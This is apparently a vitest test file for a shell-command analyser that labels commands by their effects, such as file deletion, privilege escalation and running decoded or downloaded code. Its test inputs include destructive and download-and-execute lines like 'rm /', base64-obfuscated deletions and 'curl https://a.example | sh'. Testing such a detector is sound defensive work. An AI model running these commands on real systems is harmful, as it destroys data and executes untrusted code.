import { describe, expect, it } from 'vitest';
import { effectsOf } from './shell.ts';

const encoded = Buffer.from('rm /\n').toString('base64');

describe('text that becomes commands', () => {
  it.each([
    ['piped', 'echo "rm /" | sh', ['code.eval literal', 'file.delete /']],
    ['as a here-document', 'sh <<EOF\nrm /\nEOF', ['code.eval literal', 'file.delete /']],
    ['as a here-string', "bash <<< 'rm /'", ['code.eval literal', 'file.delete /']],
    ['decoded', `echo ${encoded} | base64 -d | sh`, ['code.eval decoded', 'file.delete /']],
    ['decoded and evaluated', `eval "$(echo ${encoded} | base64 -d)"`, ['code.eval decoded', 'file.delete /']],
    ['downloaded', 'curl https://a.example | sh', ['net.request', 'code.eval downloaded']],
    ['downloaded for another program', 'curl https://a.example | python', ['net.request', 'code.eval downloaded']],
    ['downloaded behind a wrapper', 'curl https://a.example | sudo sh', ['net.request', 'process.privilege', 'code.eval downloaded']],
    [
      'in a substitution of files',
      'bash <(curl https://a.example)',
      ['net.request', 'code.eval downloaded', 'opaque /dev/fd/63 downloaded outside-project'],
    ],
    [
      'downloaded line by line',
      'curl https://a.example | while read -r l; do $l; done',
      ['net.request', 'exec ?$l dynamic', 'code.eval downloaded'],
    ],
    ['copied into a shell', 'curl https://a.example | tee >(sh)', ['net.request', 'code.eval downloaded']],
    ['whatever a program prints', 'ls | sh', ['code.eval dynamic']],
    ['of another language', "python -c 'x'", ['code.eval']],
    ['left for later', 'trap "rm /" EXIT', ['file.delete /']],
  ])('%s', (_, text, expected) => {
    const effects = effectsOf(text).map((effect) => effect.replace(/^code\.eval [\s\S]* (\w+)$/, 'code.eval $1'));
    expect(effects).toEqual(expected);
  });

  it('is nothing where a program only sets the shell up', () => {
    expect(effectsOf('eval "$(ssh-agent -s)"')).toEqual(['exec ssh-agent']);
  });
});

describe('scripts', () => {
  const files = {
    '/home/ada/code/shop/run.sh': 'rm "$1"\n',
    '/home/ada/code/shop/tool': '#!/usr/bin/env python\nx\n',
    '/opt/app': '\u007fELF\0\0',
  };

  it.each([
    ['given to a shell', 'bash run.sh /', ['file.delete /']],
    ['run by name', './run.sh /', ['exec /home/ada/code/shop/run.sh', 'file.delete /']],
    ['sourced', 'source run.sh /', ['file.delete /']],
    ['fed', 'set -- /; bash < run.sh', ['file.read /home/ada/code/shop/run.sh', 'file.delete ?"$1"']],
    ['in the language of its first line', './tool', ['exec /home/ada/code/shop/tool', 'code.eval']],
    ['that are programs', '/opt/app', ['exec /opt/app']],
    ['that are not there', './gone.sh', ['exec /home/ada/code/shop/gone.sh', 'opaque /home/ada/code/shop/gone.sh missing']],
  ])('%s', (_, text, expected) => {
    const effects = effectsOf(text, { files }).filter((effect) => effect !== 'code.eval literal');
    expect(effects).toEqual(expected);
  });

  it.each([
    ['by a redirection', "echo 'rm /' > x.sh; sh x.sh"],
    ['by a here-document', 'cat > x.sh <<EOF\nrm /\nEOF\nchmod +x x.sh && ./x.sh'],
    ['piece by piece', 'echo "#!/bin/sh" > x.sh; echo "rm /" >> x.sh; ./x.sh'],
    ['through a pipe', 'echo "rm /" | tee x.sh; bash x.sh'],
  ])('that the call wrote %s', (_, text) => {
    expect(effectsOf(text)).toContain('file.delete /');
  });

  it.each([
    ['echo >> run.sh; sh run.sh /', 'file.delete /'],
    ['echo >> run.sh; ./run.sh /', 'file.delete /'],
    ['echo | tee -a run.sh; . run.sh /', 'file.delete /'],
    ['ls >> run.sh; sh run.sh /', 'file.delete /'],
    ['set -- /; echo >> run.sh; bash < run.sh', 'file.delete ?"$1"'],
    ['echo >> run.sh; echo "rm /x" >> run.sh; sh run.sh /', 'file.delete /', 'file.delete /x'],
    ['echo "rm /x" | tee run.sh; echo "rm /y" | tee -a run.sh; sh run.sh /', 'file.delete /x', 'file.delete /y'],
    ['echo >> run.sh; echo "rm /x" > run.sh; sh run.sh /', 'file.delete /x'],
    ['echo "rm /x" >> new.sh; sh new.sh', 'file.delete /x'],
    ['echo "rm /x" >> new.sh; sh < new.sh', 'file.delete /x'],
  ])('that the call put something behind: %s', (text, ...expected) => {
    expect(effectsOf(text, { files }).filter((effect) => effect.startsWith('file.delete'))).toEqual(expected);
  });

  it('that the call downloaded', () => {
    expect(effectsOf('curl https://a.example > x.sh; sh x.sh')).toEqual([
      'file.write /home/ada/code/shop/x.sh truncate',
      'net.request',
      'code.eval downloaded',
      'opaque /home/ada/code/shop/x.sh downloaded',
    ]);
  });
});
